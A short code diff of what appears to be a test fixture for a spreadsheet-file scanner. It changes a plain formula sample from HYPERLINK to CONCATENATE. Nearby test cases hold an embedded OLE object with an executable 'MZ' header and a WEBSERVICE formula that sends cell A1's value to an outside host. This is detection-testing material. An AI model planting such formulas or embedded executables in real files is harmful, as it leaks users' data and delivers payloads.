@@ -335,7 +335,7 @@ FORMS: Mapping[str, tuple[str, Callable[[], bytes], str]] = {
         lambda: with_member("xl/embeddings/oleObject1.bin", lambda one: b"MZ"),
         "F005",
     ),
-    "a formula": ("a.xlsx", lambda: _answer('=HYPERLINK("https://example.org")'), "F006"),
+    "a formula": ("a.xlsx", lambda: _answer('=CONCATENATE("a","b")'), "F006"),
     "a formula that asks another machine": (
         "a.xlsx",
         lambda: _answer('=WEBSERVICE("https://example.org/?"&A1)'),
